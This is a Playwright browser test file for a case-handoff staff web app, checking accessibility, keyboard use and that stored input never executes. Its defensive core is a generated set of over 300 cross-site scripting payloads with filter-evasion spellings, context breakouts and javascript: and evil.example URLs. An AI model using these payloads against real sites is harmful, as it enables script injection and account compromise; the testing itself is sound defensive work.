"""The page of one handoff in a real Chromium: nothing that somebody wrote acts, and a colleague gets through it by keyboard."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Page, async_playwright, expect

from bot.desk.casework import Draft
from bot.desk.duplicates import Alike
from bot.office.app import create_office
from bot.office.auth import hash_token
from bot.ports import StaffSession
from tests.browser.conftest import ARGS, need_chromium
from tests.depth import thin
from tests.office.case_cast import MEI, find, send
from tests.office.fakes import CHEAP, PROMPT
from tests.office.world import World, open_world
from tests.serving import serve_beside

pytestmark = pytest.mark.browser

WIDE, NARROW = {"width": 1280, "height": 900}, {"width": 390, "height": 844}
#: What would show that something acted, in several spellings that filters are known to miss.
_HURTS = (
    "window.hurt=1",
    "alert(1)",
    "document.body.id='hurt'",
    "top['ale'+'rt'](1)",
    "import('/static/office.js?hurt')",
)
#: Ways to get it to run. {} is what is to be run.
_WAYS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} id=hurt>x</a>",
    "<form action=javascript:{}><button autofocus>x",
    "<base href='//evil.example/'><script src=x></script>{}",
    "<link rel=stylesheet href='data:,*{{}}'><meta http-equiv=refresh content='0;url=javascript:{}'>",
)
#: Places that it may be written into, and how one gets out of each.
_OUT = ("", '">', "'>", "</textarea>", "</title></style></script>", "-->", "{{{{7*7}}}}", '\u202e">')
PAYLOADS = tuple(
    f"{out}{way.format(hurt)}"
    for number, (way, hurt, out) in enumerate(itertools.product(_WAYS, _HURTS, _OUT))
    if number % 8 in {number // 8 % 8, (number // 8 + 3) % 8, (number // 8 + 5) % 8}
)
_ACTED = """() => {
  const main = document.querySelector("main");
  const odd = main.querySelectorAll("script, img, svg, math, iframe, object, embed, video, base, link, meta, style, #hurt");
  const handlers = [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some((a) => a.name.startsWith("on")));
  const links = [...main.querySelectorAll("a[href]")].filter((one) => !/^(#|[/]handoffs[/]|[/]queue)/.test(one.getAttribute("href")));
  return [window.hurt ?? 0, document.body.id, odd.length, handlers.length, links.length].join();
}"""


@dataclass
class Served:
    """An office on a real socket, and a browser in which a colleague has signed in."""

    world: World
    url: str
    page: Page
    member: StaffSession

    def path(self, handoff_id: str) -> str:
        return f"{self.url}/handoffs/{handoff_id}"


@pytest.fixture
async def office(tmp_path: Path) -> AsyncIterator[Served]:
    executable = need_chromium()
    async with open_world(tmp_path) as world, serve_world(world) as url, async_playwright() as playwright:
        await world.hire("林社工", "list", "open", "export")
        token = (await world.sign_in("林社工")).token
        member = await world.parts.staff.find_session(hash_token(token))
        assert member is not None
        browser = await playwright.chromium.launch(executable_path=executable, args=ARGS)
        context = await browser.new_context(locale="zh-TW", viewport=WIDE)  # type: ignore[arg-type]
        context.set_default_timeout(30_000)
        await context.add_cookies([{"name": "office", "value": token, "url": url}])
        yield Served(world, url, await context.new_page(), member)
        await browser.close()


def serve_world(world: World) -> contextlib.AbstractAsyncContextManager[str]:
    return serve_beside(
        lambda url: create_office(world.parts, demo=True, origin=url, limits=PROMPT, cost=CHEAP)
    )


async def plant(office: Served, payload: str, number: int) -> str:
    """Let a person and a colleague write it wherever they can, and open the handoff."""
    world = office.world
    fields = dict.fromkeys(MEI, f"{payload} §{number}")
    handoff_id = await send(world, fields, told=("types", "may_text"), text=f"{payload} §{number}")
    await world.ask(handoff_id, "correct", payload)
    draft = Draft(f"n-{number}", payload, {"reply_unit": payload[:60], "reply_name": payload[:60]})
    world.parts.cases.openings.grant(office.member, handoff_id, Alike())
    await world.parts.cases.add_note(office.member, handoff_id, draft)
    await world.parts.cases.acknowledge(office.member, handoff_id, draft, seen=0)
    return handoff_id


@pytest.mark.parametrize("quarter", thin(range(4), 4))
async def test_three_hundred_payloads_in_every_place_do_nothing(office: Served, quarter: int) -> None:
    """T20, T22 (by night all, else a quarter): no script, no element, no handler, no link, no request elsewhere; and every one is shown as it was written."""
    assert len(set(PAYLOADS)) >= 300
    acted: list[str] = []
    page = office.page
    page.on("dialog", lambda dialog: (acted.append("dialog"), asyncio.ensure_future(dialog.dismiss()))[0])
    page.on("console", lambda line: acted.append(line.text) if "Security Policy" in line.text else None)
    page.on("pageerror", lambda fault: acted.append(str(fault)))
    page.on("request", lambda sent: None if sent.url.startswith(office.url) else acted.append(sent.url))
    for number, payload in enumerate(PAYLOADS[quarter::4]):
        handoff_id = await plant(office, payload, number)
        await page.goto(office.path(handoff_id))
        shown = await page.inner_text("main")
        assert shown.count(f"§{number}") >= 20, payload
        assert await page.evaluate(_ACTED) == "0,,0,0,0", payload
    assert acted == []


async def test_the_marker_would_show_that_something_acted(office: Served) -> None:
    """A page into which a payload came as markup is found out: the test above can fail."""
    page = office.page
    handoff_id = await plant(office, "x", 0)
    await page.goto(office.path(handoff_id))
    await page.evaluate("""() => document.querySelector("main").append(document.createElement("img"))""")
    assert await page.evaluate(_ACTED) == "0,,1,0,0"
    await page.evaluate("""() => { window.hurt = 1; document.querySelector("main").append(
        Object.assign(document.createElement("a"), { href: "https://evil.example" })); }""")
    assert await page.evaluate(_ACTED) == "1,,1,0,1"


async def test_a_colleague_opens_calls_notes_and_covers_it_again(office: Served) -> None:
    """The whole way, by keyboard alone."""
    page, handoff_id = office.page, await send(office.world, told=("types",))
    await page.goto(office.path(handoff_id))
    assert "陳怡君" not in await page.content()
    await page.locator("input[value=first_call]").focus()
    await page.keyboard.press("Space")
    await page.keyboard.press("Enter")
    await expect(page.locator(".case-name")).to_contain_text("陳怡君")
    await page.locator("#note-text").focus()
    await page.keyboard.type("沒接，明晚再打。")
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    await expect(page.locator(".case-note")).to_contain_text("沒接，明晚再打。")
    await page.locator("input[value=called]").check()
    await page.get_by_role("button", name="存下狀態").press("Enter")
    await expect(page.locator("#status + p")).to_contain_text("已聯絡")
    assert (await find(office.world, handoff_id)).status == "called"
    await page.get_by_role("button", name="看完了，遮起來").press("Enter")
    await page.goto(office.path(handoff_id))
    assert "陳怡君" not in await page.content()


async def test_a_note_outlives_being_covered(office: Served) -> None:
    """T6: opened once more in a tab beside it, the words are still there and are saved."""
    page, handoff_id = office.page, await plant(office, "x", 0)
    await page.goto(office.path(handoff_id))
    await page.locator("#note-text").fill("打了很久的字")
    office.world.parts.cases.openings.shut(office.member, handoff_id)
    await page.get_by_role("button", name="存下備註").click()
    assert (await Axe().run(page)).violations_count == 0
    await page.locator("input[value=follow_up]").check()
    async with page.context.expect_page() as waiting:
        await page.get_by_role("button", name="在新分頁打開").click()
    beside = await waiting.value
    await expect(beside.locator(".case-name")).to_contain_text("x")
    await expect(page.locator("#text")).to_have_value("打了很久的字")
    await page.get_by_role("button", name="存下備註").click()
    await expect(page.locator(".case-note", has_text="打了很久的字")).to_have_count(1)


async def test_going_back_does_not_show_what_was_covered(office: Served) -> None:
    """T23: nothing of it is left in the browser."""
    page, handoff_id = office.page, await plant(office, "看得到的字", 1)
    await page.goto(office.path(handoff_id))
    assert "看得到的字" in await page.content()
    await page.get_by_role("button", name="看完了，遮起來").click()
    await page.wait_for_url("**/queue")
    await page.go_back()
    assert "看得到的字" not in await page.content()


@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
async def test_the_pages_are_clean_and_fit(office: Served, viewport: dict[str, int]) -> None:
    """WCAG 2.2 by axe, and nothing is pushed out to the side."""
    page, world = office.page, office.world
    await page.set_viewport_size(viewport)  # type: ignore[arg-type]
    fields = {**MEI, "story": "很長" * 500, "contact_way": "w" * 150, "name": "Nguyễn Thị Hồng Nhung"}
    handoff_id = await send(world, fields, told=("types",))
    for kind in ("correct", "withdraw"):
        await world.ask(handoff_id, kind, "x" * 400)
    paths = [office.path(handoff_id), f"{office.path(handoff_id)}/erase", office.path("none")]
    await expect_clean(page, paths[0])
    world.parts.cases.openings.grant(office.member, handoff_id, Alike())
    draft = Draft("n", "n" * 500, {"reply_unit": "u" * 60})
    await world.parts.cases.add_note(office.member, handoff_id, draft, about="withdraw")
    await world.parts.cases.acknowledge(office.member, handoff_id, draft, seen=0)
    for path in paths:
        await expect_clean(page, path)


async def expect_clean(page: Page, path: str) -> None:
    await page.goto(path)
    found = await Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
